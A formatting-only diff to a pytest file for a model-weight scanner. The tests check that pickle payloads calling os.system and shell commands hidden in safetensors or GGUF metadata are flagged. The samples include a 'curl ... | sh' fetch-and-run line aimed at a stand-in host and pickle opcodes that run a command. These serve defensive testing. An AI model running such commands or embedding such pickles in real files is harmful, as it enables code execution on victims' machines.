@@ -27,8 +27,10 @@ from weightscan.scanner.model import Severity, Verdict
 from weightscan.scanner.source import Source
 
 # Built from opcodes, never loaded: posix.system("echo hi")
-EVIL = (b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93"
-        b"\x8c\x07echo hi\x94\x85\x94R\x94.")
+EVIL = (
+    b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93"
+    b"\x8c\x07echo hi\x94\x85\x94R\x94."
+)
 EVIL_P0 = b"cos\nsystem\n(S'echo hi'\ntR."
 HARMLESS = pickle.dumps({"a": [1, 2, 3]}, protocol=2)  # plain data: still not metadata
 SOURCE = "import os\nos.system('echo hi')\n"
@@ -101,17 +103,22 @@ def test_evil_pickle_in_gguf_string_array_is_malicious(name):
 
 
 def test_harmless_pickle_in_metadata_is_suspicious():
-    for ctx in (_safetensors(base64.b64encode(HARMLESS).decode()),
-                _gguf_string(base64.b64encode(HARMLESS).decode())):
+    for ctx in (
+        _safetensors(base64.b64encode(HARMLESS).decode()),
+        _gguf_string(base64.b64encode(HARMLESS).decode()),
+    ):
         assert _verdict(ctx) is Verdict.SUSPICIOUS, [(f.rule_id, f.message) for f in ctx.findings]
 
 
-@pytest.mark.parametrize("script", [
-    "curl -s http://example.invalid/x.sh | sh",
-    "#!/bin/sh\necho hi > /tmp/x\n",
-    "bash -c 'echo hi'",
-    "python -c \"import os; os.system('echo hi')\"",
-])
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -s http://example.invalid/x.sh | sh",
+        "#!/bin/sh\necho hi > /tmp/x\n",
+        "bash -c 'echo hi'",
+        "python -c \"import os; os.system('echo hi')\"",
+    ],
+)
 def test_shell_commands_in_metadata_are_suspicious(script):
     for ctx in (_safetensors(script), _gguf_string(script)):
         assert ctx.findings, script
@@ -124,11 +131,20 @@ def test_python_source_in_metadata_is_suspicious():
 
 
 ORDINARY = [
-    "pt", "1.0", "{\"hidden_size\": 4096, \"architectures\": [\"LlamaForCausalLM\"]}",
+    "pt",
+    "1.0",
+    '{"hidden_size": 4096, "architectures": ["LlamaForCausalLM"]}',
     "Apache License 2.0. You may not use this file except in compliance with the License.",
     "A 7B model fine-tuned for chat. Use `import transformers` to load it.",
-    "c4", "N.", "Q4_K_M", "llama", "3f2a9c", "deadbeef" * 2, "SGVsbG8gd29ybGQ=",
-    "[\"os\", \"system\"]", "from transformers import AutoModel",
+    "c4",
+    "N.",
+    "Q4_K_M",
+    "llama",
+    "3f2a9c",
+    "deadbeef" * 2,
+    "SGVsbG8gd29ybGQ=",
+    '["os", "system"]',
+    "from transformers import AutoModel",
 ]
 
 
@@ -140,16 +156,20 @@ def test_ordinary_metadata_stays_clean(value):
 
 def test_chat_template_prose_in_gguf_is_not_python_source():
     b = small_model()
-    b.kv("tokenizer.chat_template", STRING,
-         "Call os.system or eval( only in examples; import os is prose here.\n"
-         "{% for m in messages %}{{ m.content }}{% endfor %}")
+    b.kv(
+        "tokenizer.chat_template",
+        STRING,
+        "Call os.system or eval( only in examples; import os is prose here.\n"
+        "{% for m in messages %}{{ m.content }}{% endfor %}",
+    )
     assert _scan(b.build(), Format.GGUF).findings == []
 
 
 def _vocab(n: int) -> list[str]:
     pieces = ["Ġthe", "ing", ".", "import", "os", "(", ")", "\n", "Ċ", "é", "▁", "c", "N."]
-    return [pieces[i % len(pieces)] + str(i) if i % 3 else pieces[i % len(pieces)]
-            for i in range(n)]
+    return [
+        pieces[i % len(pieces)] + str(i) if i % 3 else pieces[i % len(pieces)] for i in range(n)
+    ]
 
 
 def test_150k_vocab_stays_clean_and_fast():
